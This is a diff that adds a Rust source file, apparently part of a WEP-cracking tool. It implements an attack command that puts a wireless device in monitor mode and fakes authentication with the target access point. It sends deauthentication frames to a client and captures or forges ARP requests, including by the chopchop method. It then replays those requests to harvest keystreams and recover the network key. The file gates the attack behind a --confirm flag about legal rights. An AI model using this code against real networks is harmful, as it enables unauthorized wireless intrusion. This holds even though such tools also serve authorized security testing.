@@ -0,0 +1,406 @@
+use std::{
+    path::{Path, PathBuf},
+    sync::{
+        atomic::{self, AtomicBool},
+        Arc, Mutex,
+    },
+    time::{Duration, Instant},
+};
+
+use anyhow::Context;
+use ieee80211::{Frame, MacAddress};
+use serde_json::json;
+
+use crate::{
+    arp_supplier::ARPSampleSupplier,
+    deauth::DeauthAttack,
+    fake_auth::{FakeAuthAlgorithm, MAX_SSID_LEN},
+    ieee80211::IEEE80211Monitor,
+    keycracker::{KeyCracker, KeyCrackerSampleProvider, KeyCrackerSettings},
+    keystream_store::KeystreamStore,
+    passive_supplier::PassiveSampleSupplier,
+    plaintext,
+    session::{SessionAttack, SessionFakeAuth, SessionTarget},
+    wep::WepKeystream,
+};
+
+use super::{
+    emit_deauth_sent, emit_event, enter_monitor_mode, export_ivs, fake_authenticate,
+    finish_ivs_export, lookup_channel, parse_mac_address, record_keystreams, replay_arp_requests,
+    run_key_cracker, session_writer, Args, BruteForceArgs, DeauthArgs, VoteTableArgs,
+};
+
+#[derive(clap::Args)]
+pub struct AttackArgs {
+    #[arg(long, help = "The wireless device to attack with")]
+    device: String,
+
+    #[arg(
+        long,
+        value_parser = parse_mac_address,
+        help = "The BSSID of the target access point"
+    )]
+    bssid: MacAddress,
+
+    #[arg(
+        long,
+        value_parser = parse_mac_address,
+        required_unless_present_any = ["passive", "fake_auth"],
+        conflicts_with = "fake_auth",
+        help = "The MAC address of the target client device"
+    )]
+    client: Option<MacAddress>,
+
+    #[arg(long, help = "The channel the target access point is on")]
+    channel: u32,
+
+    #[arg(
+        long,
+        help = "Give up after this many attempts to obtain an ARP request"
+    )]
+    max_attempts: Option<usize>,
+
+    #[arg(
+        long,
+        conflicts_with = "passive",
+        help = "Forge an ARP request using the chopchop attack after this many failed attempts to capture one"
+    )]
+    chopchop_after: Option<usize>,
+
+    #[arg(
+        long,
+        conflicts_with = "passive",
+        help = "Forge the ARP request using a keystream file (e.g. from the fragment command) instead of capturing one"
+    )]
+    keystream: Option<PathBuf>,
+
+    #[arg(
+        long,
+        conflicts_with = "passive",
+        requires_all = ["ssid", "keystream"],
+        help = "Fake authenticate / associate with the access point and attack using the device's own MAC address"
+    )]
+    fake_auth: bool,
+
+    #[arg(
+        long,
+        requires = "fake_auth",
+        help = "Use shared key authentication with the keystream file when fake authenticating"
+    )]
+    shared_key_auth: bool,
+
+    #[arg(long, value_parser = parse_ssid, help = "The SSID of the target access point")]
+    ssid: Option<String>,
+
+    #[arg(
+        long,
+        help = "Confirm that you have the legal rights to attack the target network"
+    )]
+    confirm: bool,
+
+    #[arg(
+        long,
+        help = "Passively harvest keystreams from the network's traffic instead of replaying ARP requests"
+    )]
+    passive: bool,
+
+    #[arg(long, help = "Write all samples to an aircrack-ng IVS file")]
+    export_ivs: Option<PathBuf>,
+
+    #[arg(
+        long,
+        help = "Collect all recovered keystreams in this keystream store, adding to it if it exists"
+    )]
+    keystream_store: Option<PathBuf>,
+
+    #[command(flatten)]
+    deauth: DeauthArgs,
+
+    #[command(flatten)]
+    votes: VoteTableArgs,
+
+    #[command(flatten)]
+    brute_force: BruteForceArgs,
+}
+
+pub(super) fn run(
+    attack_args: &AttackArgs,
+    args: &Args,
+    should_quit: &Arc<AtomicBool>,
+) -> anyhow::Result<()> {
+    //Make the user confirm the attack first
+    if !attack_args.confirm {
+        anyhow::bail!(
+            "refusing to launch an attack without --confirm; ONLY CONTINUE IF YOU HAVE THE LEGAL RIGHTS TO DO SO!"
+        );
+    }
+
+    if !attack_args.bssid.is_unicast()
+        || attack_args
+            .client
+            .map_or(false, |client| !client.is_unicast())
+    {
+        anyhow::bail!("the BSSID and client MAC address must be unicast addresses");
+    }
+
+    let settings = args.keycracker_settings(KeyCrackerSettings::default())?;
+    attack_args.brute_force.check(&settings)?;
+    if settings.num_test_frames > 0 {
+        anyhow::bail!("verifying keys using ICVs is only supported when cracking capture files");
+    }
+    settings.check_keystream_len(plaintext::MAX_PREDICTED_PLAINTEXT_LEN)?;
+
+    //Switch to the target channel
+    let monitor = enter_monitor_mode(&attack_args.device, args)?;
+    monitor
+        .set_channel(lookup_channel(&monitor, attack_args.channel)?)
+        .context("failed to switch to the target channel")?;
+
+    //Associate with the AP, so that it accepts the frames we inject from our own MAC address
+    //The keeper has to be dropped before the monitor, as its thread uses the monitor's interface
+    let fake_auth = attack_args
+        .fake_auth
+        .then(|| fake_auth_params(attack_args))
+        .transpose()?;
+    let fake_auth_keeper = match &fake_auth {
+        Some(fake_auth) => Some(fake_authenticate(&monitor, attack_args.bssid, fake_auth)?),
+        None => None,
+    };
+
+    let (mut sample_prov, attack): (Box<KeyCrackerSampleProvider>, SessionAttack) =
+        if attack_args.passive {
+            //Passively harvest keystreams from the network's traffic
+            emit_event(json!({ "event": "passive_sniffing_started" }));
+
+            let mut sample_prov = PassiveSampleSupplier::new(monitor, attack_args.bssid);
+            (
+                Box::new(move |should_exit| sample_prov.provide_sample(should_exit)),
+                SessionAttack::Passive,
+            )
+        } else {
+            //Clap ensures we have a client unless we are running passively / using fake auth
+            let client = attack_args.client.unwrap_or_else(|| monitor.mac_address());
+            let arp_request = match &attack_args.keystream {
+                Some(path) => forge_arp_request(path, attack_args, &client)?,
+                None => capture_arp_request(&monitor, attack_args, &client, should_quit)?,
+            };
+
+            //Replay the ARP request
+            let attack = SessionAttack::ARPReplay {
+                client,
+                arp_request: arp_request.bytes().to_vec(),
+                fake_auth,
+            };
+
+            //Captured ARP requests can be captured again if the client disassociates
+            let recapture = attack_args.keystream.is_none().then(|| {
+                DeauthAttack::new(attack_args.bssid, client, attack_args.deauth.settings())
+            });
+
+            let sample_prov = ARPSampleSupplier::new(
+                monitor.clone(),
+                client,
+                attack_args.bssid,
+                arp_request,
+                recapture,
+            );
+            (replay_arp_requests(sample_prov), attack)
+        };
+
+    //Crack the key
+    let session = session_writer(
+        args,
+        Some(SessionTarget {
+            bssid: attack_args.bssid,
+            channel: attack_args.channel,
+            attack,
+        }),
+    );
+
+    let ivs_export = match &attack_args.export_ivs {
+        Some(ivs_path) => {
+            let (prov, export) = export_ivs(
+                sample_prov,
+                ivs_path,
+                attack_args.bssid,
+                settings.min_sample_confidence,
+            )?;
+            sample_prov = prov;
+            Some(export)
+        }
+        None => None,
+    };
+
+    let keystream_store = match &attack_args.keystream_store {
+        Some(path) => {
+            let store = if path.exists() {
+                KeystreamStore::load(path)?
+            } else {
+                KeystreamStore::new()
+            };
+
+            let store = Arc::new(Mutex::new(store));
+            sample_prov =
+                record_keystreams(sample_prov, store.clone(), settings.min_sample_confidence);
+            Some((path, store))
+        }
+        None => None,
+    };
+
+    let mut cracker = KeyCracker::new(settings, sample_prov, should_quit.clone());
+    attack_args
+        .votes
+        .import(&mut cracker, Some(attack_args.bssid))?;
+
+    let res = run_key_cracker(
+        cracker,
+        || false,
+        session,
+        &attack_args.votes,
+        Some(attack_args.bssid),
+        &attack_args.brute_force,
+        should_quit,
+    );
+
+    if let Some(export) = &ivs_export {
+        finish_ivs_export(export)?;
+    }
+
+    //Save the collected keystreams even if the attack failed, as they are useful on their own
+    if let Some((path, store)) = keystream_store {
+        let store = store.lock().expect("failed to lock keystream store");
+        store.save(path)?;
+
+        emit_event(json!({
+            "event": "keystream_store_saved",
+            "path": path,
+            "keystreams": store.len(),
+        }));
+    }
+
+    if let Some(keeper) = fake_auth_keeper {
+        emit_event(json!({
+            "event": "fake_auth_stopped",
+            "reassociations": keeper.num_reassociations(),
+            "failures": keeper.num_failures(),
+        }));
+    }
+
+    res.map(|_| ())
+}
+
+fn parse_ssid(ssid: &str) -> Result<String, String> {
+    if ssid.len() > MAX_SSID_LEN {
+        return Err(format!("SSIDs can be at most {MAX_SSID_LEN} bytes long"));
+    }
+    Ok(ssid.to_string())
+}
+
+fn fake_auth_params(attack_args: &AttackArgs) -> anyhow::Result<SessionFakeAuth> {
+    //Clap ensures we have an SSID and keystream when using fake auth
+    let algorithm = if attack_args.shared_key_auth {
+        FakeAuthAlgorithm::SharedKey(WepKeystream::load(attack_args.keystream.as_ref().unwrap())?)
+    } else {
+        FakeAuthAlgorithm::OpenSystem
+    };
+
+    Ok(SessionFakeAuth {
+        ssid: attack_args.ssid.as_ref().unwrap().as_bytes().to_vec(),
+        algorithm,
+    })
+}
+
+fn forge_arp_request(
+    keystream_path: &Path,
+    attack_args: &AttackArgs,
+    client: &MacAddress,
+) -> anyhow::Result<Frame<'static>> {
+    let keystream = WepKeystream::load(keystream_path)?;
+
+    //We don't know any addresses of the network, but the AP relays broadcasts either way
+    let arp_request = ARPSampleSupplier::forge_arp_request(
+        &keystream,
+        0,
+        &attack_args.bssid,
+        client,
+        [0xff; 4],
+        [0xff; 4],
+    )
+    .context("the keystream is too short to forge an ARP request with")?;
+
+    emit_event(json!({ "event": "arp_request_forged", "keystream": keystream_path }));
+    Ok(arp_request)
+}
+
+fn capture_arp_request(
+    monitor: &IEEE80211Monitor,
+    attack_args: &AttackArgs,
+    client: &MacAddress,
+    should_quit: &AtomicBool,
+) -> anyhow::Result<Frame<'static>> {
+    //Try to obtain an ARP request through deauth injection
+    let mut sniffer = monitor
+        .create_sniffer()
+        .context("failed to create packet sniffer")?;
+    let mut deauth = DeauthAttack::new(attack_args.bssid, *client, attack_args.deauth.settings());
+
+    let mut attempt = 0;
+    let arp_request = loop {
+        if should_quit.load(atomic::Ordering::SeqCst) {
+            anyhow::bail!("interrupted");
+        }
+        if attack_args.max_attempts == Some(attempt) {
+            anyhow::bail!("failed to obtain an ARP request after {attempt} attempts");
+        }
+
+        attempt += 1;
+        emit_event(json!({ "event": "arp_request_attempt", "attempt": attempt }));
+
+        let arp_request = ARPSampleSupplier::try_capture_arp_request(
+            &attack_args.bssid,
+            client,
+            &mut deauth,
+            &mut sniffer,
+        )?;
+        emit_deauth_sent(&deauth);
+
+        if let Some(arp_request) = arp_request {
+            break arp_request;
+        }
+
+        //Fall back to recovering a keystream to forge an ARP request with
+        if attack_args
+            .chopchop_after
+            .map_or(false, |interval| attempt % interval.max(1) == 0)
+        {
+            emit_event(json!({ "event": "chopchop_started" }));
+
+            let mut last_progress = Instant::now();
+            let arp_request = ARPSampleSupplier::forge_chopchop_arp_request(
+                &attack_args.bssid,
+                client,
+                &mut sniffer,
+                |recovered_bytes, num_bytes| {
+                    if last_progress.elapsed() >= Duration::from_secs(1) {
+                        last_progress = Instant::now();
+                        emit_event(json!({
+                            "event": "chopchop_progress",
+                            "recovered_bytes": recovered_bytes,
+                            "num_bytes": num_bytes,
+                        }));
+                    }
+                },
+                should_quit,
+            )?;
+
+            if let Some(arp_request) = arp_request {
+                emit_event(json!({ "event": "arp_request_forged" }));
+                return Ok(arp_request);
+            }
+            emit_event(json!({ "event": "chopchop_failed" }));
+        }
+    };
+
+    emit_event(json!({ "event": "arp_request_captured", "attempts": attempt }));
+    Ok(arp_request)
+}